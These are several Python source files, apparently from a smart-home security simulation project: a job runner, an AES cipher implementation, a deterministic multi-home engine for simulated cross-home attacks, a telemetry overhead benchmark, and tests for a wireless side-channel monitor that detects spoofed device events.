                alerts=len(home.alerts),
                infected=sorted(home.infected),
                cloned=home.cloned,
                degraded=home.degraded,
            )
            for alert in home.alerts:
                job.events.append(
                    "alert",
                    home=home.home_index,
                    category=alert.category,
                    device=alert.device,
                    timestamp=alert.timestamp,
                    confidence=alert.confidence,
                    layers=[layer.value for layer in alert.layers_involved],
                )
            with self._live_lock:
                self.live.counter("server.homes_completed").inc()
                if home.degraded:
                    self.live.counter("server.homes_degraded").inc()
            if job.cancel_requested:
                raise JobInterrupted(JobState.CANCELLED)
            if deadline is not None and time.monotonic() > deadline:
                raise JobInterrupted(JobState.TIMEOUT)

        def on_epoch(home, epoch) -> None:
            # The epoch-granular interruption point for journaled jobs:
            # the supervisor has just fsynced the boundary record, so an
            # abort here leaves a well-formed, truncation-marked journal.
            if job.cancel_requested:
                raise JobInterrupted(JobState.CANCELLED)
            if deadline is not None and time.monotonic() > deadline:
                raise JobInterrupted(JobState.TIMEOUT)

        journal = None
        if job.journal_path is not None:
            from repro.runtime.journal import Journal
            # Durable mode: a server job's journal must survive
            # process death, not just driver exceptions.
            journal = Journal(job.journal_path, fsync=True)
        scratch = MetricsRegistry()
        result = None
        try:
            with telemetry.scoped_registry(scratch):
                result = run_spec(
                    job.spec, workers=job.workers, on_home=on_home,
                    journal=journal,
                    on_epoch=on_epoch if journal is not None else None)
        except JobInterrupted as exc:
            self._finish(job, exc.state)
        except Exception as exc:  # noqa: BLE001 - job isolation boundary
            job.error = f"{type(exc).__name__}: {exc}"
            self._finish(job, JobState.FAILED)
        else:
            payload = result_to_dict(result)
            self.store.put(job.id, payload)
            self._finish(job, JobState.DONE,
                         alerts=len(result.alerts),
                         infected=sorted(result.infected),
                         degraded_homes=list(result.degraded_homes))
        finally:
            if journal is not None:
                journal.close()
        # Fold the job's telemetry (including retry counters recorded
        # outside any home-local registry) into the live registry.
        with self._live_lock:
            self.live.merge(scratch)
            duration = time.time() - job.started_at
            self.live.histogram(
                "server.job_duration_s",
                buckets=JOB_DURATION_BUCKETS,
                state=job.state.value).observe(duration)

    def _finish(self, job: Job, state: JobState, **extra: Any) -> None:
        job.state = state
        job.finished_at = time.time()
        if job.error is not None:
            extra.setdefault("error", job.error)
        job.events.append(state.value, job_id=job.id,
                          homes_done=job.homes_done, **extra)
        with self._live_lock:
            self.live.counter("server.jobs_finished",
                              state=state.value).inc()
            self._update_queue_gauges()
