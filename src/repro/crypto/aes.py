"""AES-128/192/256 (faithful, FIPS-197).

The S-box is generated algorithmically (multiplicative inverse in
GF(2^8) followed by the affine transform) rather than embedded as a
table, which makes the implementation self-checking: a transcription
error would break the FIPS-197 known-answer tests.
"""

from __future__ import annotations

from typing import List

from repro.crypto.base import BlockCipher


def _gf_mul(a: int, b: int) -> int:
    """Multiply in GF(2^8) with the AES polynomial x^8+x^4+x^3+x+1."""
    result = 0
    for _ in range(8):
        if b & 1:
            result ^= a
        high = a & 0x80
        a = (a << 1) & 0xFF
        if high:
            a ^= 0x1B
        b >>= 1
    return result


def _build_sboxes():
    # Multiplicative inverses via brute force (runs once at import).
    inverse = [0] * 256
    for x in range(1, 256):
        for y in range(1, 256):
            if _gf_mul(x, y) == 1:
                inverse[x] = y
                break
    sbox = [0] * 256
    for x in range(256):
        b = inverse[x]
        s = 0
        for i in range(8):
            bit = (
                (b >> i)
                ^ (b >> ((i + 4) % 8))
                ^ (b >> ((i + 5) % 8))
                ^ (b >> ((i + 6) % 8))
                ^ (b >> ((i + 7) % 8))
                ^ (0x63 >> i)
            ) & 1
            s |= bit << i
        sbox[x] = s
    inv_sbox = [0] * 256
    for x, s in enumerate(sbox):
        inv_sbox[s] = x
    return sbox, inv_sbox


_SBOX, _INV_SBOX = _build_sboxes()
_RCON = [0x01]
for _ in range(13):
    _RCON.append(_gf_mul(_RCON[-1], 2))


class Aes(BlockCipher):
    """AES with 128/192/256-bit keys."""

    name = "AES"
    block_size_bits = 128
    key_size_bits = (128, 192, 256)
    structure = "SPN"

    _ROUNDS = {128: 10, 192: 12, 256: 14}

    @classmethod
    def rounds_for_key_bits(cls, key_bits: int) -> int:
        return cls._ROUNDS[key_bits]

    def _setup(self, key: bytes) -> None:
        nk = len(key) // 4
        nr = self._ROUNDS[len(key) * 8]
        words: List[List[int]] = [list(key[4 * i : 4 * i + 4]) for i in range(nk)]  # noqa: E203
        for i in range(nk, 4 * (nr + 1)):
            temp = list(words[i - 1])
            if i % nk == 0:
                temp = temp[1:] + temp[:1]
                temp = [_SBOX[b] for b in temp]
                temp[0] ^= _RCON[i // nk - 1]
            elif nk > 6 and i % nk == 4:
                temp = [_SBOX[b] for b in temp]
            words.append([w ^ t for w, t in zip(words[i - nk], temp)])
        self._round_keys = [
            sum(words[4 * r : 4 * r + 4], []) for r in range(nr + 1)  # noqa: E203
        ]
        self._nr = nr

    # -- state helpers (state is a flat 16-list, column-major like FIPS) --
    @staticmethod
    def _add_round_key(state, rk):
        return [s ^ k for s, k in zip(state, rk)]

    @staticmethod
    def _sub_bytes(state, box):
        return [box[b] for b in state]

    @staticmethod
    def _shift_rows(state):
        out = list(state)
        for row in range(1, 4):
            cells = [state[row + 4 * col] for col in range(4)]
            cells = cells[row:] + cells[:row]
            for col in range(4):
                out[row + 4 * col] = cells[col]
        return out

    @staticmethod
    def _inv_shift_rows(state):
        out = list(state)
        for row in range(1, 4):
            cells = [state[row + 4 * col] for col in range(4)]
            cells = cells[-row:] + cells[:-row]
            for col in range(4):
                out[row + 4 * col] = cells[col]
        return out

    @staticmethod
    def _mix_columns(state, matrix):
        out = [0] * 16
        for col in range(4):
            column = state[4 * col : 4 * col + 4]  # noqa: E203
            for row in range(4):
                acc = 0
                for k in range(4):
                    acc ^= _gf_mul(matrix[row][k], column[k])
                out[4 * col + row] = acc
        return out

    _MIX = [[2, 3, 1, 1], [1, 2, 3, 1], [1, 1, 2, 3], [3, 1, 1, 2]]
    _INV_MIX = [[14, 11, 13, 9], [9, 14, 11, 13], [13, 9, 14, 11], [11, 13, 9, 14]]

    def encrypt_block(self, block: bytes) -> bytes:
        state = list(self._check_block(block))
        state = self._add_round_key(state, self._round_keys[0])
        for rnd in range(1, self._nr):
            state = self._sub_bytes(state, _SBOX)
            state = self._shift_rows(state)
            state = self._mix_columns(state, self._MIX)
            state = self._add_round_key(state, self._round_keys[rnd])
        state = self._sub_bytes(state, _SBOX)
        state = self._shift_rows(state)
        state = self._add_round_key(state, self._round_keys[self._nr])
        return bytes(state)

    def decrypt_block(self, block: bytes) -> bytes:
        state = list(self._check_block(block))
        state = self._add_round_key(state, self._round_keys[self._nr])
        for rnd in range(self._nr - 1, 0, -1):
            state = self._inv_shift_rows(state)
            state = self._sub_bytes(state, _INV_SBOX)
            state = self._add_round_key(state, self._round_keys[rnd])
            state = self._mix_columns(state, self._INV_MIX)
        state = self._inv_shift_rows(state)
        state = self._sub_bytes(state, _INV_SBOX)
        state = self._add_round_key(state, self._round_keys[0])
        return bytes(state)
