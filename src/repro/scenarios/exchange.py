"""Lockstep-epoch fleet engine: cross-home exchange, deterministically.

Cross-home attacks (worm spread, coordinated DDoS, adaptive campaigns)
break the one-home-at-a-time fleet model: home 3's next epoch depends
on what home 0 sent it.  This engine advances *every* home by a fixed
sim-time epoch, drains each home's
:class:`~repro.network.internet.WanExchangePort` outbox at the barrier,
routes the messages in one deterministic global order — sorted by
``(epoch, src_home, seq)`` — and injects them into their destination
homes before the next epoch begins.

Determinism contract (what the tests pin down):

* **Serial == parallel == any shard layout.**  Routing happens in the
  parent in every mode; each home is an independent simulator seeded
  from ``spec.seed + index`` whose inputs are exactly its epoch-bounded
  inbound message lists.  Shards are pure transport.
* **Crash recovery is replay, not retry-with-drift.**  The parent
  journals every epoch's routed inbound per home, so when a forked
  shard dies its homes are rebuilt in-process and *replayed* through
  the journal — regenerating the lost epoch's outbound bit-for-bit —
  then the lockstep continues.  Homes that lived through a replay are
  flagged ``degraded`` exactly like the fast path's worker-retry.
* **Single-home specs never come here** — ``run_spec`` dispatches to
  this engine only when a multi-home spec schedules a cross-home
  attack; everything else stays on the no-epoch fast path.
"""

from __future__ import annotations

import multiprocessing
import os
from typing import Callable, Dict, List, Optional, Set, Tuple

from repro.network.internet import CrossHomeMessage, WanExchangePort
from repro.runtime.actors import (
    FleetActor,
    HomeActor,
    Inbound,
    Supervisor,
    epoch_boundaries as _epoch_boundaries,
    message_to_dict,
)
from repro.scenarios.prototype import PROTOTYPES
from repro.scenarios.spec import (
    HomeRunResult,
    ScenarioResult,
    ScenarioSpec,
    SpecError,
    _merge_home,
    fork_available,
)
from repro import telemetry as _telemetry
from repro.telemetry import MetricsRegistry

# One home's epoch output: (drained outbox, infected-device count,
# journal-ready event dicts polled since the previous epoch).
EpochOutput = Tuple[List[CrossHomeMessage], int, List[dict]]


class ShardCrash(RuntimeError):
    """A forked shard died or reported a failure mid-epoch."""


class _EpochShard:
    """A set of home actors advanced in lockstep inside one process.

    Used three ways: as the single serial shard, as the body of a
    forked shard process, and as the in-parent replacement that replays
    a crashed shard's homes from the inbound journal.  With
    ``collect_events`` on, each advance also carries the actors' polled
    runtime events (plain dicts) back to the supervising parent.
    """

    def __init__(self, spec: ScenarioSpec, indices: List[int],
                 collect_events: bool = False):
        self.spec = spec
        self.indices = list(indices)
        self.collect_events = collect_events
        self._boundaries = _epoch_boundaries(spec)
        self._actors: Dict[int, HomeActor] = {}

    def prepare(self) -> None:
        for index in self.indices:
            local = MetricsRegistry() if _telemetry.ENABLED else None
            port = WanExchangePort(index, len(self.spec.homes),
                                   self.spec.epoch_s)
            actor = HomeActor(self.spec, index, port=port, registry=local,
                              collect_events=self.collect_events)
            actor.start()
            self._actors[index] = actor

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        """Deliver the epoch's inbound, run to the boundary, drain."""
        until = self._boundaries[epoch]
        outputs: Dict[int, EpochOutput] = {}
        for index in self.indices:
            outputs[index] = self._actors[index].advance_epoch(
                epoch, until, inbound.get(index, ()))
        return outputs

    def finish(self) -> List[HomeRunResult]:
        return [self._actors[index].finish() for index in self.indices]


# Test seam: called in the forked shard process before each epoch's
# advance.  Resilience tests monkeypatch this (the patch rides into the
# shard via fork) to kill a shard mid-fleet; the in-parent replay path
# bypasses it, mirroring spec._worker_crash_hook.
def _shard_crash_hook(epoch: int, indices: List[int]) -> None:
    return None


def _shard_main(spec: ScenarioSpec, indices: List[int], conn,
                collect_events: bool = False) -> None:
    """Forked shard body: a request/reply loop over one pipe."""
    try:
        shard = _EpochShard(spec, indices, collect_events=collect_events)
        shard.prepare()
        while True:
            request = conn.recv()
            if request[0] == "advance":
                _, epoch, inbound = request
                _shard_crash_hook(epoch, indices)
                conn.send(("out", shard.advance(epoch, inbound)))
            elif request[0] == "finish":
                conn.send(("results", shard.finish()))
                return
    except EOFError:
        return
    except BaseException as exc:  # surface the failure; parent replays
        try:
            conn.send(("error", repr(exc)))
        except OSError:
            pass
    finally:
        conn.close()


class _ForkedShard:
    """Parent-side handle driving one forked :class:`_EpochShard`."""

    def __init__(self, context, spec: ScenarioSpec, indices: List[int],
                 collect_events: bool = False):
        self.indices = list(indices)
        self._conn, child_conn = context.Pipe()
        self.process = context.Process(
            target=_shard_main,
            args=(spec, self.indices, child_conn, collect_events))
        self.process.start()
        child_conn.close()

    def _request(self, message, expected: str):
        try:
            self._conn.send(message)
            reply = self._conn.recv()
        except (EOFError, OSError) as exc:
            raise ShardCrash(
                f"shard {self.indices} died mid-exchange") from exc
        if reply[0] != expected:
            raise ShardCrash(f"shard {self.indices} failed: {reply[1]}")
        return reply[1]

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        return self._request(("advance", epoch, inbound), "out")

    def finish(self) -> List[HomeRunResult]:
        return self._request(("finish",), "results")

    def close(self) -> None:
        try:
            self._conn.close()
        except OSError:
            pass
        self.process.join(timeout=10)
        if self.process.is_alive():
            self.process.terminate()
            self.process.join(timeout=10)


class _LocalShard:
    """Uniform handle around an in-parent :class:`_EpochShard` (serial
    mode and crash replays); never calls the crash hook."""

    def __init__(self, spec: ScenarioSpec, indices: List[int],
                 collect_events: bool = False):
        self.indices = list(indices)
        self._shard = _EpochShard(spec, indices,
                                  collect_events=collect_events)
        self._shard.prepare()

    def advance(self, epoch: int, inbound: Inbound) -> Dict[int, EpochOutput]:
        return self._shard.advance(epoch, inbound)

    def finish(self) -> List[HomeRunResult]:
        return self._shard.finish()

    def close(self) -> None:
        return None


def _shard_layout(n_homes: int, workers: int) -> List[List[int]]:
    """Contiguous near-equal blocks, one per worker (results are
    layout-independent — tests run several layouts to prove it)."""
    n_shards = min(workers, n_homes)
    layout = []
    for shard in range(n_shards):
        start = shard * n_homes // n_shards
        stop = (shard + 1) * n_homes // n_shards
        layout.append(list(range(start, stop)))
    return layout


def _replay_shard(spec: ScenarioSpec, indices: List[int],
                  journal: List[Inbound], upto_epoch: int,
                  collect_events: bool = False,
                  ) -> Tuple[_LocalShard, Dict[int, EpochOutput]]:
    """Rebuild a crashed shard's homes in-parent and replay them
    through the journalled inbound up to (and including) ``upto_epoch``.

    Replay is deterministic — the journal holds every input the lost
    homes ever consumed — so the returned epoch output is bit-for-bit
    what the dead shard would have produced.  Events polled for the
    catch-up epochs were already journaled before the crash, so only
    the final (resumed) epoch's output carries them to the caller.
    """
    if _telemetry.ENABLED:
        _telemetry.registry().counter(
            "fleet.shard_replays",
            homes=",".join(f"{i:02d}" for i in indices)).inc()
    replacement = _LocalShard(spec, indices, collect_events=collect_events)
    outputs: Dict[int, EpochOutput] = {}
    for epoch in range(upto_epoch + 1):
        inbound = {index: journal[epoch].get(index, [])
                   for index in indices}
        outputs = replacement.advance(epoch, inbound)
    return replacement, outputs


def run_exchange_spec(spec: ScenarioSpec,
                      workers: Optional[int] = 1,
                      max_home_retries: int = 3,
                      retry_backoff_s: float = 0.05,
                      on_home: Optional[Callable[[HomeRunResult], None]] = None,
                      on_epoch: Optional[Callable[[Optional[int], int],
                                                  None]] = None,
                      journal=None,
                      cross_indices: Set[int] = frozenset(),
                      ) -> ScenarioResult:
    r"""Run a multi-home spec with cross-home attacks in lockstep epochs.

    Called by :func:`repro.scenarios.spec.run_spec` — not directly —
    whenever a multi-home spec schedules a cross-home attack.  The
    signature mirrors ``run_spec``; ``max_home_retries`` and
    ``retry_backoff_s`` are accepted for parity but crash recovery here
    is journal replay (deterministic, in-parent) rather than blind
    retry, so they are not consulted.

    The run executes under a :class:`~repro.runtime.actors.Supervisor`:
    homes are :class:`~repro.runtime.actors.HomeActor`\ s (in-parent or
    inside forked shards), WAN routing state lives in a
    :class:`~repro.runtime.actors.FleetActor`, and — when ``journal=``
    is given — every epoch boundary, routed WAN batch, alert, fault and
    home-alone transition lands in the append-only journal as it
    happens, with shard deaths recorded as ``actor-crash`` /
    ``actor-restart`` pairs.
    """
    n_homes = len(spec.homes)
    boundaries = _epoch_boundaries(spec)
    n_epochs = len(boundaries)
    if workers is None:
        workers = os.cpu_count() or 1
    workers = min(workers, n_homes)
    parallel = workers > 1 and fork_available()

    supervisor = Supervisor(spec, journal=journal, engine="exchange",
                            workers=workers if parallel else 1)
    collect = supervisor.journaling
    fleet_registry = MetricsRegistry() if _telemetry.ENABLED else None

    if parallel:
        # Warm the prototype cache before forking so snapshots ride into
        # the shards via copy-on-write pages (same as the fast path).
        if PROTOTYPES.enabled:
            for home_spec in spec.homes:
                PROTOTYPES.warm(home_spec)
        context = multiprocessing.get_context("fork")
        shards = [_ForkedShard(context, spec, indices,
                               collect_events=collect)
                  for indices in _shard_layout(n_homes, workers)]
    else:
        shards = [_LocalShard(spec, list(range(n_homes)),
                              collect_events=collect)]

    replayed: Set[int] = set()
    fleet = FleetActor(n_homes)
    try:
        supervisor.open()
        for index in range(n_homes):
            supervisor.emit("actor-start", home=index)
        for epoch in range(n_epochs):
            inbound = fleet.take_inbound()
            outputs: Dict[int, EpochOutput] = {}
            for position, shard in enumerate(shards):
                shard_inbound = {index: inbound[index]
                                 for index in shard.indices
                                 if index in inbound}
                try:
                    outputs.update(shard.advance(epoch, shard_inbound))
                except ShardCrash as crash:
                    if _telemetry.ENABLED:
                        _telemetry.registry().counter(
                            "fleet.shard_failures").inc()
                    shard.close()
                    supervisor.emit("actor-crash", homes=shard.indices,
                                    epoch=epoch, error=str(crash))
                    # Journal-resume: rebuild the lost homes in-parent
                    # and replay them through the inbound history.  Only
                    # the resumed epoch's events reach the journal — the
                    # catch-up epochs were journaled before the crash.
                    replacement, replayed_out = _replay_shard(
                        spec, shard.indices, fleet.history, epoch,
                        collect_events=collect)
                    shards[position] = replacement
                    replayed.update(shard.indices)
                    supervisor.emit("actor-restart", homes=shard.indices,
                                    resumed_epoch=epoch)
                    outputs.update(replayed_out)
            if collect:
                # Runtime events in deterministic home order, regardless
                # of shard layout or reply order.
                for index in sorted(outputs):
                    supervisor.observe(outputs[index][2])
            # Deterministic global routing order: every home's outbox,
            # sorted by (epoch, src_home, seq) — src-home-major,
            # send-order-minor — independent of shard layout and of
            # which shard replied first.
            messages = fleet.route(outputs)
            if supervisor.journaling and messages:
                # Journaled against the epoch the batch is *delivered*
                # at (the next boundary), matching fleet.history.
                supervisor.emit("wan", epoch=epoch + 1,
                                messages=[message_to_dict(m)
                                          for m in messages])
            if fleet_registry is not None:
                fleet_registry.counter("fleet.epochs").inc()
                for message in messages:
                    fleet_registry.counter("fleet.exchange_messages",
                                           kind=message.kind).inc()
                fleet_registry.gauge(
                    "fleet.infected_devices", epoch=f"{epoch:03d}").set(
                    sum(output[1] for output in outputs.values()))
            supervisor.epoch_boundary(epoch, boundaries[epoch],
                                      on_epoch=on_epoch)

        # Messages emitted during the final epoch have no next boundary
        # to deliver at; count them rather than dropping silently.
        dropped = fleet.dropped()
        if fleet_registry is not None and dropped:
            fleet_registry.counter("fleet.exchange_dropped").inc(dropped)

        homes_by_index: Dict[int, HomeRunResult] = {}
        for position, shard in enumerate(shards):
            try:
                results = shard.finish()
            except ShardCrash as crash:
                if _telemetry.ENABLED:
                    _telemetry.registry().counter(
                        "fleet.shard_failures").inc()
                shard.close()
                supervisor.emit("actor-crash", homes=shard.indices,
                                epoch=n_epochs - 1, error=str(crash))
                # Every epoch was already journaled; the replay only
                # regenerates results, so its polled events are dropped.
                replacement, _ = _replay_shard(
                    spec, shard.indices, fleet.history, n_epochs - 1)
                shards[position] = replacement
                replayed.update(shard.indices)
                supervisor.emit("actor-restart", homes=shard.indices,
                                resumed_epoch=n_epochs - 1)
                results = replacement.finish()
            for home in results:
                homes_by_index[home.home_index] = home

        result = ScenarioResult(spec=spec, features={}, device_types={},
                                infected=set(), outcomes=[], alerts=[])
        outcomes: Dict[int, object] = {}
        for index in range(n_homes):
            home = homes_by_index.get(index)
            if home is None:
                raise SpecError(f"home {index} produced no result "
                                "(shard lost and replay failed)")
            if index in replayed:
                home.degraded = True
            supervisor.emit("actor-done", home=index,
                            alerts=len(home.alerts),
                            infected=len(home.infected))
            _merge_home(result, home, outcomes, cross_indices)
            if on_home is not None:
                on_home(home)
        result.outcomes = [outcomes.get(i)
                           for i in range(len(spec.attacks))]
        supervisor.close(result)
    except BaseException as exc:
        supervisor.abort(f"{type(exc).__name__}: {exc}")
        raise
    finally:
        for shard in shards:
            shard.close()
        supervisor.release()
    if fleet_registry is not None:
        if result.telemetry is None:
            result.telemetry = MetricsRegistry()
        result.telemetry.merge(fleet_registry)
    if result.telemetry is not None:
        # Fold into the process registry so CLI --telemetry exports see
        # exchange runs too (same contract as the fast path).
        _telemetry.registry().merge(result.telemetry)
    return result
