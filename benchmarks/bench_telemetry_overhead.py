#!/usr/bin/env python
"""Telemetry overhead benchmark — proves the subsystem's cost budget.

Not a paper artifact: engineering telemetry for the reproduction
itself.  Measures and writes ``BENCH_telemetry.json``:

* **fleet overhead** — wall-clock of a serial ``run_fleet`` with
  telemetry disabled vs enabled (best-of-N to cut scheduler noise);
  the budget is <5% enabled overhead, and the disabled path must be
  a no-op by construction (one module-attribute check per site);
* **micro link path** — per-packet cost of the instrumented
  ``Link.transmit`` + ``Interface.deliver`` path, disabled vs enabled;
* **merge identity** — serial vs parallel fleet runs with telemetry
  enabled must produce byte-identical merged exports.

Usage::

    PYTHONPATH=src python benchmarks/bench_telemetry_overhead.py --quick
    PYTHONPATH=src python benchmarks/bench_telemetry_overhead.py \
        --homes 4 --duration 120 --repeats 3 --out BENCH_telemetry.json
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time

from repro import telemetry
from repro.scenarios import fleet, parallel
from repro.sim import Simulator
from repro.network.node import Link, Node
from repro.network.packet import Packet
from repro.telemetry.export import to_jsonl, to_prometheus

OVERHEAD_THRESHOLD_PCT = 5.0


def _timed_fleet(enabled: bool, n_homes: int, duration_s: float,
                 repeats: int) -> float:
    """Best-of-``repeats`` wall-clock for one serial fleet run."""
    best = float("inf")
    for _ in range(repeats):
        telemetry.reset()
        if enabled:
            telemetry.enable()
        else:
            telemetry.disable()
        start = time.perf_counter()
        fleet.run_fleet(n_homes=n_homes, infected_homes=(0,),
                        duration_s=duration_s)
        best = min(best, time.perf_counter() - start)
    telemetry.disable()
    telemetry.reset()
    return best


def bench_fleet_overhead(n_homes: int, duration_s: float,
                         repeats: int) -> dict:
    disabled_s = _timed_fleet(False, n_homes, duration_s, repeats)
    enabled_s = _timed_fleet(True, n_homes, duration_s, repeats)
    overhead_pct = (enabled_s - disabled_s) / disabled_s * 100.0
    return {
        "homes": n_homes,
        "duration_s": duration_s,
        "repeats": repeats,
        "disabled_s": round(disabled_s, 4),
        "enabled_s": round(enabled_s, 4),
        "overhead_pct": round(overhead_pct, 2),
        "threshold_pct": OVERHEAD_THRESHOLD_PCT,
        "passed": overhead_pct < OVERHEAD_THRESHOLD_PCT,
    }


def _timed_link_path(enabled: bool, n_packets: int) -> float:
    """Packets across one instrumented link, transmit through deliver."""
    telemetry.reset()
    if enabled:
        telemetry.enable()
    else:
        telemetry.disable()
    sim = Simulator()
    link = Link(sim, "wifi", name="bench-lan")
    sender = Node(sim, "sender")
    receiver = Node(sim, "receiver")
    sender.add_interface(link, "10.0.0.2")
    receiver.add_interface(link, "10.0.0.3")
    start = time.perf_counter()
    for i in range(n_packets):
        sender.send(Packet(src="10.0.0.2", dst="10.0.0.3",
                           size_bytes=128))
        if i % 1000 == 999:
            sim.run()  # drain deliveries in batches
    sim.run()
    elapsed = time.perf_counter() - start
    if enabled:
        carried = telemetry.registry().counter_value(
            "net.link.packets", link="bench-lan")
        assert carried == n_packets, (carried, n_packets)
    telemetry.disable()
    telemetry.reset()
    return elapsed


def bench_link_micro(n_packets: int) -> dict:
    disabled_s = _timed_link_path(False, n_packets)
    enabled_s = _timed_link_path(True, n_packets)
    return {
        "packets": n_packets,
        "disabled_s": round(disabled_s, 4),
        "enabled_s": round(enabled_s, 4),
        "per_packet_overhead_us": round(
            (enabled_s - disabled_s) / n_packets * 1e6, 3),
    }


def bench_merge_identity(n_homes: int, duration_s: float) -> dict:
    """Serial vs parallel enabled runs: merged exports must be identical."""
    telemetry.reset()
    telemetry.enable()
    serial = fleet.run_fleet(n_homes=n_homes, infected_homes=(0,),
                             duration_s=duration_s)
    telemetry.reset()
    par = parallel.run_fleet(n_homes=n_homes, infected_homes=(0,),
                             duration_s=duration_s, workers=2)
    snap_serial = serial.telemetry.snapshot()
    snap_parallel = par.telemetry.snapshot()
    identical = (
        snap_serial == snap_parallel
        and to_prometheus(snap_serial) == to_prometheus(snap_parallel)
        and to_jsonl(snap_serial) == to_jsonl(snap_parallel)
    )
    telemetry.disable()
    telemetry.reset()
    return {
        "homes": n_homes,
        "duration_s": duration_s,
        "identical_totals": identical,
        "counters": len(snap_serial["counters"]),
        "histograms": len(snap_serial["histograms"]),
        "spans": len(snap_serial["spans"]),
        "spans_dropped": snap_serial["spans_dropped"],
        "link_packets_total": serial.telemetry.counter_total(
            "net.link.packets"),
    }


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true",
                        help="small fleet + fewer packets (CI smoke)")
    parser.add_argument("--homes", type=int, default=4)
    parser.add_argument("--duration", type=float, default=120.0,
                        help="simulated seconds per home")
    parser.add_argument("--repeats", type=int, default=3,
                        help="timing repeats (best-of)")
    parser.add_argument("--packets", type=int, default=50_000,
                        help="packets for the link micro-benchmark")
    parser.add_argument("--out", default="BENCH_telemetry.json",
                        help="JSON output path ('-' for stdout only)")
    args = parser.parse_args(argv)
    if args.homes < 1 or args.duration <= 0 or args.repeats < 1:
        parser.error("--homes/--repeats must be >= 1, --duration > 0")

    if args.quick:
        args.homes = min(args.homes, 2)
        args.duration = min(args.duration, 60.0)
        args.repeats = min(args.repeats, 2)
        args.packets = min(args.packets, 20_000)

    report = {
        "bench": "telemetry_overhead",
        "quick": args.quick,
        "cpu_count": os.cpu_count(),
        "python": sys.version.split()[0],
        "fleet": bench_fleet_overhead(args.homes, args.duration,
                                      args.repeats),
        "micro_link": bench_link_micro(args.packets),
        "merge": bench_merge_identity(min(args.homes, 2),
                                      min(args.duration, 60.0)),
    }

    text = json.dumps(report, indent=2)
    print(text)
    if args.out != "-":
        with open(args.out, "w") as handle:
            handle.write(text + "\n")
        print(f"\nwrote {args.out}", file=sys.stderr)

    status = 0
    if not report["fleet"]["passed"]:
        print(f"ERROR: enabled telemetry overhead "
              f"{report['fleet']['overhead_pct']}% exceeds "
              f"{OVERHEAD_THRESHOLD_PCT}%", file=sys.stderr)
        status = 1
    if not report["merge"]["identical_totals"]:
        print("ERROR: serial and parallel merged telemetry differ",
              file=sys.stderr)
        status = 1
    return status


if __name__ == "__main__":
    sys.exit(main())
