"""Tests for the HoMonit-style wireless side-channel monitor."""

import pytest

from repro.core.signals import SignalType
from repro.network.packet import Packet
from repro.security.network.homonit import HomonitMonitor
from repro.sim import Simulator


def burst(monitor, sim, device, sizes, gap=0.1):
    for size in sizes:
        monitor.observe(Packet(src="10.0.0.2", dst="cloud",
                               size_bytes=size, src_device=device))
        sim.timeout(gap)
        sim.run()


def quiet(sim, seconds=5.0):
    sim.timeout(seconds)
    sim.run()


@pytest.fixture
def monitor():
    sim = Simulator()
    signals = []
    mon = HomonitMonitor(sim, report=signals.append)
    return sim, mon, signals


def learn_on_off(sim, mon):
    mon.begin_learning("bulb-1", "state:on")
    burst(mon, sim, "bulb-1", [140, 90, 140])
    mon.end_learning("bulb-1", "smart_bulb")
    mon.begin_learning("bulb-1", "state:off")
    burst(mon, sim, "bulb-1", [300, 300])
    mon.end_learning("bulb-1", "smart_bulb")


class TestLearning:
    def test_learning_builds_library(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        assert mon.fingerprints_learned("bulb-1") == 2

    def test_end_learning_without_traffic(self, monitor):
        sim, mon, _ = monitor
        mon.begin_learning("bulb-1", "e")
        assert not mon.end_learning("bulb-1")

    def test_end_learning_without_begin(self, monitor):
        _sim, mon, _ = monitor
        assert not mon.end_learning("ghost")


class TestInference:
    def test_event_inferred_from_matching_burst(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [140, 90, 140])
        quiet(sim)
        mon.flush()
        assert ("bulb-1", "state:on") in [
            (device, label) for _t, device, label in mon.inferred_events
        ]

    def test_distinct_events_distinguished(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [300, 300])
        quiet(sim)
        burst(mon, sim, "bulb-1", [140, 90, 140])
        quiet(sim)
        mon.flush()
        labels = [label for _t, _d, label in mon.inferred_events]
        assert labels == ["state:off", "state:on"]

    def test_unknown_burst_not_classified(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [950, 950, 950, 950, 950, 950])
        quiet(sim)
        mon.flush()
        assert not mon.inferred_events

    def test_unlearned_device_ignored(self, monitor):
        sim, mon, _ = monitor
        burst(mon, sim, "stranger", [100, 100])
        mon.flush()
        assert not mon.inferred_events

    def test_cover_traffic_ignored(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        mon.observe(Packet(src="a", dst="b", size_bytes=140,
                           src_device="bulb-1", is_cover_traffic=True))
        mon.flush()
        assert not mon.inferred_events


class TestAudit:
    def test_matching_claim_and_radio_is_clean(self, monitor):
        sim, mon, signals = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [140, 90, 140])
        mon.note_claimed_event("bulb-1", "state:on")
        quiet(sim)
        assert mon.audit() == []
        assert not signals

    def test_spoofed_claim_has_no_radio_evidence(self, monitor):
        """The platform was told the lock moved; the radio never saw it."""
        sim, mon, signals = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        mon.note_claimed_event("bulb-1", "state:on")
        quiet(sim)
        mismatches = mon.audit()
        assert mismatches
        assert mismatches[0][3] == "claim-without-radio-evidence"
        assert signals[0].signal_type == SignalType.BEHAVIOR_DEVIATION

    def test_hidden_command_radio_without_claim(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [140, 90, 140])
        quiet(sim)
        mismatches = mon.audit()
        assert mismatches
        assert mismatches[0][3] == "radio-event-without-claim"

    def test_tolerance_window(self, monitor):
        sim, mon, _ = monitor
        learn_on_off(sim, mon)
        quiet(sim)
        burst(mon, sim, "bulb-1", [140, 90, 140])
        quiet(sim, seconds=60.0)
        mon.note_claimed_event("bulb-1", "state:on")  # a minute later
        mismatches = mon.audit(tolerance_s=10.0)
        kinds = {m[3] for m in mismatches}
        assert "claim-without-radio-evidence" in kinds
